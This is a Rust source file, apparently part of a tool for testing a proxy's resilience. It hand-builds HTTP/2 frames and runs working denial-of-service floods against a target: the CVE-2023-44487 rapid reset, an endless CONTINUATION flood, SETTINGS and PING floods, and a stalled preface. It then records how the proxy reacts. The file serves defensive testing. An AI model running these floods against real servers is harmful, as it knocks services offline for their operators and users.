//! HTTP/2 attacks, written frame by frame: the h2 crate is a well-behaved
//! client and will not send a flood of resets, endless CONTINUATION frames
//! or a half preface. A frame is its 9-byte header and payload (RFC 9113
//! §4.1); header blocks are HPACK literals without indexing (RFC 7541 §6.2.2).

use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::Instant;

use super::conn::{classify, read_to_close, End, Target};
use super::Finding;
use record::hostile::Outcome;

pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const GOAWAY: u8 = 0x7;
const CONTINUATION: u8 = 0x9;

const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;

/// One frame: 24-bit length, type, flags, 31-bit stream id, payload.
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len();
    assert!(len < 1 << 24, "frame payload of {len} bytes does not fit 24 bits");
    let mut f = Vec::with_capacity(9 + len);
    f.extend_from_slice(&[(len >> 16) as u8, (len >> 8) as u8, len as u8, kind, flags]);
    f.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    f.extend_from_slice(payload);
    f
}

/// An HPACK integer with an N-bit prefix (RFC 7541 §5.1), first byte's high bits 0.
fn hpack_int(out: &mut Vec<u8>, value: usize, prefix_bits: u8) {
    let max = (1usize << prefix_bits) - 1;
    if value < max {
        out.push(value as u8);
        return;
    }
    out.push(max as u8);
    let mut v = value - max;
    while v >= 128 {
        out.push((v % 128 + 128) as u8);
        v /= 128;
    }
    out.push(v as u8);
}

/// A literal header field without indexing, new name, no Huffman coding.
pub fn literal(out: &mut Vec<u8>, name: &str, value: &str) {
    out.push(0x00);
    hpack_int(out, name.len(), 7);
    out.extend_from_slice(name.as_bytes());
    hpack_int(out, value.len(), 7);
    out.extend_from_slice(value.as_bytes());
}

/// The header block of `GET /hostile` to `authority`.
pub fn get_block(authority: &str) -> Vec<u8> {
    let mut b = Vec::new();
    literal(&mut b, ":method", "GET");
    literal(&mut b, ":scheme", "http");
    literal(&mut b, ":path", "/hostile");
    literal(&mut b, ":authority", authority);
    b
}

/// Every frame the proxy sent, by kind, and how the connection ended.
#[derive(Debug, Default)]
struct Seen {
    frames: [u64; 10],
    /// Error code of the first GOAWAY and when it came.
    goaway: Option<(u32, Duration)>,
}

fn error_name(code: u32) -> String {
    match code {
        0x0 => "NO_ERROR".into(),
        0x1 => "PROTOCOL_ERROR".into(),
        0x2 => "INTERNAL_ERROR".into(),
        0x3 => "FLOW_CONTROL_ERROR".into(),
        0x6 => "FRAME_SIZE_ERROR".into(),
        0x7 => "REFUSED_STREAM".into(),
        0x8 => "CANCEL".into(),
        0x9 => "COMPRESSION_ERROR".into(),
        0xb => "ENHANCE_YOUR_CALM".into(),
        other => format!("error 0x{other:x}"),
    }
}

/// Read frames until the connection ends or `deadline`.
async fn read_frames<R: tokio::io::AsyncRead + Unpin>(rd: &mut R, since: Instant, deadline: Instant) -> (Seen, End) {
    let mut seen = Seen::default();
    let mut head = [0u8; 9];
    let mut payload = vec![0u8; 1 << 14];
    loop {
        let r = tokio::time::timeout_at(deadline, rd.read_exact(&mut head)).await;
        let end = match r {
            Err(_) => return (seen, End::Open),
            Ok(Ok(_)) => None,
            Ok(Err(e)) => Some(classify(&e, since)),
        };
        if let Some(end) = end {
            return (seen, end);
        }
        let len = (usize::from(head[0]) << 16) | (usize::from(head[1]) << 8) | usize::from(head[2]);
        let kind = head[3];
        if payload.len() < len {
            payload.resize(len, 0);
        }
        match tokio::time::timeout_at(deadline, rd.read_exact(&mut payload[..len])).await {
            Err(_) => return (seen, End::Open),
            Ok(Err(e)) => return (seen, classify(&e, since)),
            Ok(Ok(_)) => {}
        }
        if let Some(n) = seen.frames.get_mut(usize::from(kind)) {
            *n += 1;
        }
        if kind == GOAWAY && seen.goaway.is_none() && len >= 8 {
            let code = u32::from_be_bytes([payload[4], payload[5], payload[6], payload[7]]);
            seen.goaway = Some((code, since.elapsed()));
        }
    }
}

/// What to send after the preface and an empty SETTINGS: `setup` once,
/// then `unit(i)` for i = 0, 1, ... as fast as the proxy takes them.
pub struct Flood {
    pub setup: Vec<u8>,
    pub unit: Box<dyn FnMut(u64) -> Vec<u8> + Send>,
    /// Units to send at most.
    pub max_units: u64,
    /// What one unit is, for the detail (`resets`, `PINGs`, ...).
    pub noun: &'static str,
    /// Read the proxy's frames while flooding; `false`: only afterwards, so
    /// everything it answers piles up on its side (the outbound-frame flood).
    pub read_during: bool,
}

/// Run `flood` for at most `duration`, then give the proxy 2 s to close.
pub async fn flood(t: &Target, mut flood: Flood, duration: Duration) -> Finding {
    let started = Instant::now();
    let io = match t.connect().await {
        Ok(io) => io,
        Err(e) => return Finding::error(format!("connect: {e}")),
    };
    let (mut rd, mut wr) = tokio::io::split(io);
    let stop_at = started + duration;
    let done = Arc::new(AtomicBool::new(false));
    let reader_done = Arc::clone(&done);
    let (go, wait_go) = tokio::sync::oneshot::channel::<()>();
    let read_during = flood.read_during;
    let reader = tokio::spawn(async move {
        if !read_during {
            let _ = wait_go.await;
        }
        let r = read_frames(&mut rd, started, stop_at + Duration::from_secs(2)).await;
        reader_done.store(true, Ordering::Relaxed);
        r
    });
    let mut opening = PREFACE.to_vec();
    opening.extend(frame(SETTINGS, 0, 0, &[]));
    opening.extend(&flood.setup);
    let mut sent = 0u64;
    let mut write_end = None;
    let mut blocked = false;
    if let Err(e) = wr.write_all(&opening).await {
        write_end = Some(classify(&e, started));
    }
    while write_end.is_none() && sent < flood.max_units && !done.load(Ordering::Relaxed) && Instant::now() < stop_at {
        let mut batch = Vec::new();
        let mut k = 0;
        while k < 64 && sent + k < flood.max_units {
            batch.extend((flood.unit)(sent + k));
            k += 1;
        }
        match tokio::time::timeout_at(stop_at, wr.write_all(&batch)).await {
            Err(_) => {
                // The proxy stopped reading: back-pressure.
                blocked = true;
                break;
            }
            Ok(Err(e)) => write_end = Some(classify(&e, started)),
            Ok(Ok(())) => sent += k,
        }
    }
    let _ = tokio::time::timeout(Duration::from_millis(100), wr.flush()).await;
    let _ = go.send(());
    let (seen, end) = reader.await.unwrap_or_default_seen();
    let end = match (end, write_end) {
        (End::Open, Some(w)) => w,
        (e, _) => e,
    };
    let mut detail = format!("{sent} {} in {:.1} s", flood.noun, started.elapsed().as_secs_f64().min(duration.as_secs_f64()));
    if blocked {
        detail.push_str(", then the proxy stopped reading");
    }
    let answered: u64 = seen.frames.iter().sum();
    detail.push_str(&format!("; {answered} frames back"));
    if let Some((code, at)) = seen.goaway {
        return Finding {
            outcome: Outcome::Goaway,
            status: None,
            detail: format!("GOAWAY {} after {:.2} s; {detail}", error_name(code), at.as_secs_f64()),
            closed_after: end.after().or(Some(at)),
        };
    }
    let mut f = Finding::ended(end, b"");
    if f.outcome == Outcome::Hung {
        f.outcome = Outcome::Absorbed;
    }
    f.detail = detail;
    f
}

trait OrDefaultSeen {
    fn unwrap_or_default_seen(self) -> (Seen, End);
}

impl OrDefaultSeen for Result<(Seen, End), tokio::task::JoinError> {
    fn unwrap_or_default_seen(self) -> (Seen, End) {
        self.unwrap_or((Seen::default(), End::Open))
    }
}

/// CVE-2023-44487: open a stream and cancel it at once, over and over.
pub fn rapid_reset(authority: &str, max_units: u64) -> Flood {
    let block = get_block(authority);
    Flood {
        setup: Vec::new(),
        unit: Box::new(move |i| {
            let stream = (2 * i + 1) as u32;
            let mut u = frame(HEADERS, END_HEADERS | END_STREAM, stream, &block);
            u.extend(frame(RST_STREAM, 0, stream, &0x8u32.to_be_bytes()));
            u
        }),
        max_units: max_units.min((1 << 30) - 1),
        noun: "HEADERS+RST_STREAM pairs",
        read_during: true,
    }
}

/// CVE-2024-27316 style: a HEADERS without END_HEADERS, then CONTINUATION
/// frames of fresh header fields that never end.
pub fn continuation(authority: &str, max_units: u64) -> Flood {
    let mut fields = Vec::new();
    let mut i = 0;
    while fields.len() < 16_000 {
        literal(&mut fields, &format!("x-flood-{i}"), &"c".repeat(200));
        i += 1;
    }
    Flood {
        setup: frame(HEADERS, 0, 1, &get_block(authority)),
        unit: Box::new(move |_| frame(CONTINUATION, 0, 1, &fields)),
        max_units,
        noun: "CONTINUATION frames of 16 KB",
        read_during: true,
    }
}

/// SETTINGS frames (each to be acknowledged), never reading the acks.
pub fn settings(max_units: u64) -> Flood {
    Flood {
        setup: Vec::new(),
        // SETTINGS_MAX_CONCURRENT_STREAMS = 100
        unit: Box::new(|_| frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])),
        max_units,
        noun: "SETTINGS frames, acks left unread",
        read_during: false,
    }
}

/// PING frames (each to be answered), never reading the answers.
pub fn ping(max_units: u64) -> Flood {
    Flood {
        setup: Vec::new(),
        unit: Box::new(|i| frame(PING, 0, 0, &i.to_be_bytes())),
        max_units,
        noun: "PINGs, answers left unread",
        read_during: false,
    }
}

/// Half a connection preface, then silence.
pub async fn stalled_preface(t: &Target, window: Duration) -> Finding {
    let started = Instant::now();
    let mut io = match t.connect().await {
        Ok(io) => io,
        Err(e) => return Finding::error(format!("connect: {e}")),
    };
    if let Err(e) = io.write_all(&PREFACE[..16]).await.and(io.flush().await) {
        return Finding::ended(classify(&e, started), b"");
    }
    let (bytes, end) = read_to_close(&mut io, started, started + window).await;
    let mut f = Finding::ended(end, &bytes);
    f.detail = format!("sent {:?}", String::from_utf8_lossy(&PREFACE[..16]));
    f
}


#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_have_the_rfc_layout() {
        let f = frame(PING, 0x1, 0, &[1, 2, 3, 4, 5, 6, 7, 8]);
        assert_eq!(&f[..9], &[0, 0, 8, 6, 1, 0, 0, 0, 0]);
        let f = frame(HEADERS, END_HEADERS, 0x8000_0003, &[]);
        assert_eq!(&f[5..9], &[0, 0, 0, 3], "the reserved bit is cleared");
    }

    #[test]
    fn hpack_literals_encode_long_strings_with_continuation_bytes() {
        let mut b = Vec::new();
        literal(&mut b, "a", &"v".repeat(300));
        // 0x00, len 1, 'a', then 300 = 127 + 173 -> 0x7f, 173 = 0xad (45 + 128), 1
        assert_eq!(&b[..3], &[0x00, 1, b'a']);
        assert_eq!(&b[3..6], &[0x7f, 0xad, 0x01]);
        assert_eq!(b.len(), 6 + 300);
    }
}
